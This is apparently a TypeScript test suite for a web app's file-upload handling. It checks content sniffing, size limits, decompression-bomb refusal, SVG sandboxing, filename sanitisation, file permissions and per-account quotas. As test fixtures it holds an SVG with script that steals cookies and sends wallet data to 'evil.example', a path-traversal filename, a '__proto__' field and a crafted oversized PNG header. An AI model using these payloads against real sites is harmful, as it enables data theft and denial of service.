// Upload checks over HTTP. No public upload route exists yet (entries, deliveries and messages own
// their routes), so this file builds a small Fastify app with the project's error handling and the
// same multipart registration, and routes that call readUpload / saveFiles / sendStoredFile
// exactly as a feature will. Real PostgreSQL, real storage on disk.
import assert from "node:assert/strict";
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { deflateSync } from "node:zlib";
import Fastify, { type FastifyInstance } from "fastify";
import sharp from "sharp";
import { createTestDatabase } from "../../test/helpers/db.ts";
import { expectError, multipartBody, type Part } from "../../test/helpers/http.ts";
import { findFile, getFile, listDerivedFiles, saveFiles } from "../files/files.queries.ts";
import { inspectImage } from "../files/images.ts";
import { IMAGE_TYPES } from "../files/media-types.ts";
import { sendStoredFile } from "../files/serve.ts";
import { LocalFileStorage, makeExistingFilesPrivate } from "../files/storage.ts";
import { installErrorHandling } from "./errors.ts";
import { readUpload, registerMultipart, type UploadLimits, UploadQuota } from "./uploads.ts";

let database: Awaited<ReturnType<typeof createTestDatabase>>;
let dataDir: string;
let storage: LocalFileStorage;
let app: FastifyInstance;
const limits: Partial<UploadLimits> = {
  maxFileBytes: 300 * 1024,
  maxRequestBytes: 500 * 1024,
  maxFiles: 5,
};

before(async () => {
  database = await createTestDatabase();
  dataDir = await fs.mkdtemp(path.join(os.tmpdir(), "lj-uploads-"));
  storage = new LocalFileStorage(path.join(dataDir, "files"));
  app = Fastify({ logger: false });
  installErrorHandling(app);
  await registerMultipart(app, limits);
  await registerMultipart(app, limits); // a second call is harmless
  app.post("/upload", async (request, reply) => {
    const query = request.query as { images?: string; max?: string };
    const upload = await readUpload(
      request,
      { storage, limits },
      {
        maxFiles: query.max ? Number(query.max) : undefined,
        accept: query.images ? IMAGE_TYPES : undefined,
      },
    );
    await database.db.transaction().execute((tx) => saveFiles(tx, "acct-1", upload.files));
    return reply.status(201).send({
      fields: upload.fields,
      files: upload.files.map((f) => ({ ...f, fingerprint: f.fingerprint ? "yes" : null })),
    });
  });
  // The same, counted against an account's hourly upload quota.
  app.post("/upload-quota/:account", async (request, reply) => {
    const accountId = (request.params as { account: string }).account;
    const upload = await readUpload(request, { storage, limits, quota: { db: database.db, accountId } });
    await database.db.transaction().execute((tx) => saveFiles(tx, accountId, upload.files));
    return reply.status(201).send({ files: upload.files.length });
  });
  app.get("/files/:id", async (request, reply) => {
    const file = await getFile(database.db, (request.params as { id: string }).id);
    return sendStoredFile(reply, storage, file);
  });
  await app.ready();
});
after(async () => {
  await app.close();
  await database.drop();
  await fs.rm(dataDir, { recursive: true, force: true });
});

async function post(parts: Part[], url = "/upload") {
  const { contentType, payload } = await multipartBody(parts);
  return app.inject({ method: "POST", url, headers: { "content-type": contentType }, payload });
}

const png = (width = 640, height = 480, colour = "#3366cc") =>
  sharp({ create: { width, height, channels: 3, background: colour } })
    .composite([
      {
        input: Buffer.from(
          `<svg width="${width}" height="${height}"><circle cx="${width / 2}" cy="${height / 2}" r="${height / 3}" fill="#fc3"/></svg>`,
        ),
      },
    ])
    .png()
    .toBuffer();

async function stagingIsEmpty() {
  const left = await fs.readdir(storage.stagingDir).catch(() => []);
  assert.deepEqual(left, [], "no staging files left behind");
}

async function countFiles() {
  const row = await database.db
    .selectFrom("files")
    .select((eb) => eb.fn.countAll<number>().as("n"))
    .executeTakeFirstOrThrow();
  return Number(row.n);
}

test("several image uploads at once all succeed (decoding is queued, not refused)", async () => {
  const images = await Promise.all([1, 2, 3, 4, 5, 6].map((i) => png(500 + i * 10, 400, `#${i}${i}${i}`)));
  const results = await Promise.all(
    images.map((value, i) => post([{ name: "files", value, filename: `${i}.png` }])),
  );
  assert.deepEqual(
    results.map((r) => r.statusCode),
    [201, 201, 201, 201, 201, 201],
  );
  assert.equal(new Set(results.map((r) => r.json().files[0].sha256)).size, 6);
});

test("a real PNG is stored by hash, with dimensions, thumbnail, watermarked preview, watermarked thumbnail and fingerprint", async () => {
  const bytes = await png(1600, 1000);
  const res = await post([
    { name: "note", value: "我的第一稿" },
    { name: "files", value: bytes, filename: "标志 logo.PNG", type: "image/png" },
  ]);
  assert.equal(res.statusCode, 201, res.body);
  const body = res.json();
  assert.deepEqual(body.fields, { note: "我的第一稿" });
  const [file] = body.files;
  assert.equal(file.mediaType, "image/png");
  assert.equal(file.width, 1600);
  assert.equal(file.height, 1000);
  assert.equal(file.byteSize, bytes.length);
  assert.equal(file.originalName, "标志 logo.png");
  assert.equal(file.fingerprint, "yes");
  assert.match(file.sha256, /^[0-9a-f]{64}$/);
  // DATA_DIR/files/ab/cd/<sha256>, and the bytes are the upload's.
  const onDisk = path.join(dataDir, "files", file.sha256.slice(0, 2), file.sha256.slice(2, 4), file.sha256);
  assert.deepEqual(await fs.readFile(onDisk), bytes);
  assert.equal(file.thumbnail.width, 400);
  assert.equal(file.thumbnail.height, 250);
  assert.equal(file.preview.width, 1200);
  const preview = await storage.get(file.preview.sha256);
  assert.equal((await sharp(preview).metadata()).format, "webp");
  // The preview is visibly marked: it differs from a plain resize of the original.
  const plain = await sharp(bytes).resize(1200).raw().toBuffer();
  const marked = await sharp(preview).raw().toBuffer();
  let changed = 0;
  for (let i = 0; i < plain.length; i += 3)
    if (Math.abs((plain[i] as number) - (marked[i] as number)) > 12) changed++;
  assert.ok(
    changed / (plain.length / 3) > 0.03,
    `watermark covers ${((changed / (plain.length / 3)) * 100).toFixed(1)}% of pixels`,
  );

  const row = await findFile(database.db, file.id);
  assert.equal(row?.uploaderId, "acct-1");
  const derived = await listDerivedFiles(database.db, file.id);
  // The watermarked thumbnail is made at upload (files/ingest.ts), not on the first request.
  assert.deepEqual(derived.map((d) => d.variant).sort(), ["marked_thumbnail", "preview", "thumbnail"]);
  const markedThumb = derived.find((d) => d.variant === "marked_thumbnail");
  const cleanThumb = derived.find((d) => d.variant === "thumbnail");
  assert.equal(markedThumb?.width, 400);
  assert.notEqual(markedThumb?.sha256, cleanThumb?.sha256);
  const fp = await database.db
    .selectFrom("image_fingerprints")
    .selectAll()
    .where("file_id", "=", file.id)
    .executeTakeFirst();
  assert.ok(fp);
  assert.match(fp.phash, /^[01]{64}$/);
  assert.equal(fp.created_at.getTime(), row?.createdAt.getTime());

  const served = await app.inject(`/files/${file.id}`);
  assert.equal(served.statusCode, 200);
  assert.equal(served.headers["content-type"], "image/png");
  assert.equal(served.headers["x-content-type-options"], "nosniff");
  assert.match(
    served.headers["content-disposition"] as string,
    /^inline; filename="__ logo\.png"; filename\*=UTF-8''%E6%A0%87%E5%BF%97%20logo\.png$/,
  );
  assert.deepEqual(served.rawPayload, bytes);
  await stagingIsEmpty();
});

test("a fake PNG (text with a .png name and image/png type) is refused with 415 and leaves nothing", async () => {
  const before = await countFiles();
  const res = await post([
    {
      name: "files",
      value: Buffer.from("<html><script>alert(1)</script></html>"),
      filename: "logo.png",
      type: "image/png",
    },
  ]);
  expectError(res, 415, "unsupported_media_type");
  assert.equal(await countFiles(), before);
  await stagingIsEmpty();
  // A real image among the files does not let a fake one through: the whole request is refused.
  const mixed = await post([
    { name: "files", value: await png(), filename: "ok.png", type: "image/png" },
    { name: "files", value: Buffer.from("MZ\x90\x00 not an image"), filename: "b.png", type: "image/png" },
  ]);
  expectError(mixed, 415, "unsupported_media_type");
  assert.equal(await countFiles(), before);
});

test("the type comes from the content, not the name: a JPEG named .png is a JPEG", async () => {
  const jpeg = await sharp(await png())
    .jpeg()
    .toBuffer();
  const res = await post([{ name: "files", value: jpeg, filename: "photo.png", type: "image/png" }]);
  assert.equal(res.statusCode, 201, res.body);
  assert.equal(res.json().files[0].mediaType, "image/jpeg");
  assert.equal(res.json().files[0].originalName, "photo.jpg");
});

const evilSvg = `<?xml version="1.0"?>
<!-- harmless looking -->
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.cookie)">
  <script>fetch('/api/v1/wallet').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>
  <circle cx="50" cy="50" r="40" fill="red"/>
</svg>`;

test("an SVG with script is never served inline: octet-stream attachment, sandboxed, nosniff", async () => {
  const res = await post([
    { name: "files", value: Buffer.from(evilSvg), filename: "logo.svg", type: "image/svg+xml" },
  ]);
  assert.equal(res.statusCode, 201, res.body);
  const file = res.json().files[0];
  assert.equal(file.mediaType, "image/svg+xml");
  assert.equal(file.thumbnail, null, "an SVG is never rendered by the server either");
  assert.equal(file.preview, null);
  const served = await app.inject(`/files/${file.id}`);
  assert.equal(served.statusCode, 200);
  assert.equal(served.headers["content-type"], "application/octet-stream");
  assert.match(served.headers["content-disposition"] as string, /^attachment; /);
  assert.match(served.headers["content-security-policy"] as string, /\bsandbox\b/);
  assert.match(served.headers["content-security-policy"] as string, /default-src 'none'/);
  assert.equal(served.headers["x-content-type-options"], "nosniff");
  // Where only images are accepted (an entry's gallery), an SVG is refused outright.
  const refused = await post(
    [{ name: "files", value: Buffer.from(evilSvg), filename: "logo.svg" }],
    "/upload?images=1",
  );
  expectError(refused, 415, "unsupported_media_type");
  // Disguised as a PNG it is still recognised (and still only a download).
  const disguised = await post([
    { name: "files", value: Buffer.from(`\uFEFF  ${evilSvg}`), filename: "x.png", type: "image/png" },
  ]);
  assert.equal(disguised.json().files[0].mediaType, "image/svg+xml");
  assert.equal(disguised.json().files[0].originalName, "x.svg");
});

test("PDF and ZIP are accepted as downloads only", async () => {
  const pdf = Buffer.from("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n");
  const zip = Buffer.from([0x50, 0x4b, 0x05, 0x06, ...new Array(18).fill(0)]);
  const res = await post([
    { name: "files", value: pdf, filename: "brief.pdf" },
    { name: "files", value: zip, filename: "sources.zip" },
  ]);
  assert.equal(res.statusCode, 201, res.body);
  const [p, z] = res.json().files;
  assert.equal(p.mediaType, "application/pdf");
  assert.equal(z.mediaType, "application/zip");
  const served = await app.inject(`/files/${z.id}`);
  assert.match(served.headers["content-disposition"] as string, /^attachment; filename="sources\.zip"/);
});

test("a file over the per-file limit, files over the request limit, and too many files → 413", async () => {
  const before = await countFiles();
  const big = Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(310 * 1024, 0x20)]);
  expectError(await post([{ name: "files", value: big, filename: "big.pdf" }]), 413, "payload_too_large");
  const medium = Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(200 * 1024, 0x20)]);
  const three = [1, 2, 3].map((i) => ({
    name: "files",
    value: Buffer.concat([medium, Buffer.from([i])]),
    filename: `${i}.pdf`,
  }));
  expectError(await post(three), 413, "payload_too_large");
  const small = await png(10, 10);
  const six = [1, 2, 3, 4, 5, 6].map((i) => ({ name: "files", value: small, filename: `${i}.png` }));
  expectError(await post(six), 413, "payload_too_large");
  const two = [1, 2].map((i) => ({ name: "files", value: small, filename: `${i}.png` }));
  expectError(await post(two, "/upload?max=1"), 413, "payload_too_large");
  assert.equal(await countFiles(), before);
  await stagingIsEmpty();
});

/** A PNG whose header claims width × height, followed by a tiny (valid) compressed first row. */
function pngClaiming(width: number, height: number) {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", deflateSync(Buffer.alloc(1 + width * 3))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}
function crc32(buf: Buffer) {
  let c = ~0;
  for (const byte of buf) {
    c ^= byte;
    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
  }
  return ~c >>> 0;
}

test("a decompression bomb (a small PNG claiming 100 megapixels) → 400 before anything is decoded", async () => {
  const bomb = pngClaiming(10_000, 10_000);
  assert.ok(bomb.length < 40_000, `the bomb is small: ${bomb.length} bytes`);
  const started = performance.now();
  const res = await post([{ name: "files", value: bomb, filename: "bomb.png", type: "image/png" }]);
  expectError(res, 400, "invalid_input");
  assert.match(res.json().error.message, /10000×10000 pixels/);
  assert.ok(performance.now() - started < 2000, "refused from the header, not after decoding");
  // Just over the 40 MP default (8000 × 5001) is refused too; just under is not refused for size.
  expectError(
    await post([{ name: "files", value: pngClaiming(8000, 5001), filename: "b.png" }]),
    400,
    "invalid_input",
  );
  await stagingIsEmpty();
});

test("a damaged image with a valid signature → 400, not 500", async () => {
  const good = await png(200, 200);
  const damaged = Buffer.concat([good.subarray(0, 60), Buffer.alloc(200, 0xab)]);
  expectError(await post([{ name: "files", value: damaged, filename: "d.png" }]), 400, "invalid_input");
});

test("bad requests: not multipart → 415; a file in another field, a field twice, an empty file → 400", async () => {
  const json = await app.inject({ method: "POST", url: "/upload", payload: { files: "x" } });
  expectError(json, 415, "unsupported_media_type");
  const small = await png(10, 10);
  expectError(await post([{ name: "avatar", value: small, filename: "a.png" }]), 400, "invalid_input");
  expectError(
    await post([
      { name: "note", value: "a" },
      { name: "note", value: "b" },
    ]),
    400,
    "invalid_input",
  );
  expectError(await post([{ name: "__proto__", value: "x" }]), 400, "invalid_input");
  expectError(
    await post([{ name: "files", value: Buffer.alloc(0), filename: "empty.png" }]),
    400,
    "invalid_input",
  );
  // A body cut off in the middle.
  const form = new FormData();
  form.append("files", new Blob([small]), "a.png");
  const request = new Request("http://local/", { method: "POST", body: form });
  const whole = Buffer.from(await request.arrayBuffer());
  const cut = await app.inject({
    method: "POST",
    url: "/upload",
    headers: { "content-type": request.headers.get("content-type") as string },
    payload: whole.subarray(0, whole.length - 60),
  });
  assert.ok(cut.statusCode >= 400 && cut.statusCode < 500, `cut body → ${cut.statusCode} ${cut.body}`);
  await stagingIsEmpty();
});

test("names are sanitised: no path, no control characters, the detected extension", async () => {
  const res = await post([
    { name: "files", value: await png(20, 20), filename: "../..\\etc/pass<wd>|\u0007.exe" },
  ]);
  assert.equal(res.statusCode, 201, res.body);
  assert.equal(res.json().files[0].originalName, "passwd.png");
});

test("storage round trip; the same bytes uploaded twice are stored once (two rows, one blob)", async () => {
  const bytes = await png(300, 200, "#aa2244");
  const first = (await post([{ name: "files", value: bytes, filename: "a.png" }])).json().files[0];
  const second = (await post([{ name: "files", value: bytes, filename: "b.png" }])).json().files[0];
  assert.notEqual(first.id, second.id);
  assert.equal(first.sha256, second.sha256);
  const dir = path.join(dataDir, "files", first.sha256.slice(0, 2), first.sha256.slice(2, 4));
  assert.deepEqual(await fs.readdir(dir), [first.sha256]);
  assert.equal((await getFile(database.db, second.id)).originalName, "b.png");

  const blob = await storage.put(Buffer.from("hello 两江"));
  assert.equal(blob.byteSize, Buffer.byteLength("hello 两江"));
  assert.equal((await storage.get(blob.sha256)).toString(), "hello 两江");
  const chunks: Buffer[] = [];
  for await (const c of storage.stream(blob.sha256, { start: 6, end: 11 })) chunks.push(c as Buffer);
  assert.equal(Buffer.concat(chunks).toString(), "两江");
  assert.equal(await storage.exists(blob.sha256), true);
  assert.equal(await storage.exists("0".repeat(64)), false);
  assert.deepEqual(await storage.put(Buffer.from("hello 两江")), blob, "putting again is harmless");
  assert.throws(() => storage.pathOf("../../etc/passwd"), /Not a sha256 key/);
  assert.equal(await findFile(database.db, "not-a-uuid"), undefined);
});

test("over a real socket: an oversized upload gets its 413 and the server keeps serving", async () => {
  const server = Fastify({ logger: false });
  installErrorHandling(server);
  await registerMultipart(server, limits);
  server.post("/upload", async (request) => ({
    n: (await readUpload(request, { storage, limits })).files.length,
  }));
  await server.listen({ port: 0, host: "127.0.0.1" });
  try {
    const { port } = server.server.address() as { port: number };
    const big = new FormData();
    big.append(
      "files",
      new Blob([Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(5 * 1024 * 1024)])]),
      "big.pdf",
    );
    const refused = await fetch(`http://127.0.0.1:${port}/upload`, { method: "POST", body: big });
    assert.equal(refused.status, 413);
    assert.equal(((await refused.json()) as { error: { code: string } }).error.code, "payload_too_large");
    const small = new FormData();
    small.append("files", new Blob([Buffer.from("%PDF-1.4\nsmall")]), "s.pdf");
    const ok = await fetch(`http://127.0.0.1:${port}/upload`, { method: "POST", body: small });
    assert.deepEqual(await ok.json(), { n: 1 });
    await stagingIsEmpty();
  } finally {
    await server.close();
  }
});

test("an animation is bounded over all its frames, not only the first", async () => {
  const frames = await Promise.all(
    Array.from({ length: 40 }, (_, i) =>
      sharp({
        create: { width: 200, height: 200, channels: 3, background: { r: i * 6, g: 90, b: 200 - i * 4 } },
      })
        .png()
        .toBuffer(),
    ),
  );
  const gif = await sharp(frames, { join: { animated: true } })
    .gif()
    .toBuffer();
  const info = await inspectImage(gif, 40_000_000, "File 1");
  assert.equal(info.width, 200);
  assert.equal(info.height, 200);
  assert.ok(info.pages > 10, `${info.pages} frames`);
  // 200×200 per frame is within a 50,000-pixel limit; all the frames together are not.
  await assert.rejects(inspectImage(gif, 50_000, "File 1"), (e: Error & { code?: string }) => {
    assert.equal(e.code, "invalid_input");
    assert.match(e.message, /animation of \d+ frames/);
    return true;
  });
});

test("stored files are 0600 and their folders 0700, whatever the umask (no other user reads uploads)", async () => {
  const old = process.umask(0); // the worst case: mkdir and open would give 0777 / 0666
  try {
    const res = await post([{ name: "files", value: await png(333, 222, "#a1b2c3"), filename: "p.png" }]);
    assert.equal(res.statusCode, 201, res.body);
    const stored = res.json().files[0] as { sha256: string; thumbnail: { sha256: string } };
    // A fresh storage too: its root and staging folders are created under this umask.
    const fresh = new LocalFileStorage(path.join(dataDir, "fresh", "files"));
    const blob = await fresh.put(Buffer.from("identity document scan"));
    const staged = await fresh.stagingPath();
    await fs.writeFile(staged, "written by a stream with the default mode");
    const moved = await fresh.put({ path: staged });
    const mode = async (p: string) => (await fs.stat(p)).mode & 0o777;
    for (const [s, sha] of [
      [storage, stored.sha256],
      [storage, stored.thumbnail.sha256],
      [fresh, blob.sha256],
      [fresh, moved.sha256],
    ] as const) {
      const file = s.pathOf(sha);
      assert.equal(await mode(file), 0o600, `file ${file}`);
      assert.equal(await mode(path.dirname(file)), 0o700, "cd/ folder");
      assert.equal(await mode(path.dirname(path.dirname(file))), 0o700, "ab/ folder");
      assert.equal(await mode(s.root), 0o700, "the files root");
      assert.equal(await mode(s.stagingDir), 0o700, "the staging folder");
    }
  } finally {
    process.umask(old);
  }
});

test("uploads per account and hour are limited (files and bytes) → 429 with Retry-After, before decoding; other accounts unaffected", async () => {
  const image = (i: number) => png(200 + i, 150, `#${String(i).padStart(6, "0")}`);
  const url = (account: string) => `/upload-quota/${account}`;
  const one = async (account: string, n: number, seed: number) =>
    post(
      await Promise.all(
        Array.from({ length: n }, async (_, i) => ({
          name: "files",
          value: await image(seed + i),
          filename: `${i}.png`,
        })),
      ),
      url(account),
    );
  assert.equal((await one("quota-a", 1, 1)).statusCode, 201);
  // Fast-forward account a to one file short of its hourly quota.
  await database.db
    .updateTable("rate_limits")
    .set({ hits: UploadQuota.files.max - 1 })
    .where("key", "=", "upload:files:account:quota-a")
    .execute();
  const before = await countFiles();
  const over = await one("quota-a", 2, 10);
  expectError(over, 429, "rate_limited");
  const retryAfter = Number(over.headers["retry-after"]);
  assert.ok(retryAfter >= 1 && retryAfter <= 3600, String(retryAfter));
  const details = over.json().error.details;
  assert.equal(details.maxFilesPerHour, UploadQuota.files.max);
  assert.equal(details.maxBytesPerHour, UploadQuota.kib.max * 1024);
  assert.equal(await countFiles(), before, "the refused request saved nothing");
  expectError(await one("quota-a", 1, 20), 429, "rate_limited");
  assert.equal((await one("quota-b", 2, 30)).statusCode, 201, "another account uploads freely");

  // Bytes: account b 1 KiB short of its quota; the next file (a few KiB) goes over.
  await database.db
    .updateTable("rate_limits")
    .set({ hits: UploadQuota.kib.max - 1 })
    .where("key", "=", "upload:kib:account:quota-b")
    .execute();
  expectError(await one("quota-b", 1, 40), 429, "rate_limited");
  await stagingIsEmpty();
});

test("files stored before (0444 blobs in 0755 folders) are made 0600 / 0700 once", async () => {
  const root = path.join(dataDir, "older", "files");
  const blob = path.join(root, "ab", "cd", "ab".padEnd(64, "c"));
  await fs.mkdir(path.dirname(blob), { recursive: true, mode: 0o755 });
  await fs.writeFile(blob, "an old upload");
  await fs.chmod(blob, 0o444);
  await fs.chmod(path.dirname(blob), 0o755);
  await makeExistingFilesPrivate(root);
  const mode = async (p: string) => (await fs.stat(p)).mode & 0o777;
  assert.equal(await mode(blob), 0o600);
  assert.equal(await mode(path.dirname(blob)), 0o700);
  assert.equal(await mode(path.join(root, "ab")), 0o700);
  assert.equal(await mode(root), 0o700);
  // Done once: a marker, and a second run changes nothing.
  await fs.chmod(blob, 0o444);
  await makeExistingFilesPrivate(root);
  assert.equal(await mode(blob), 0o444);
});
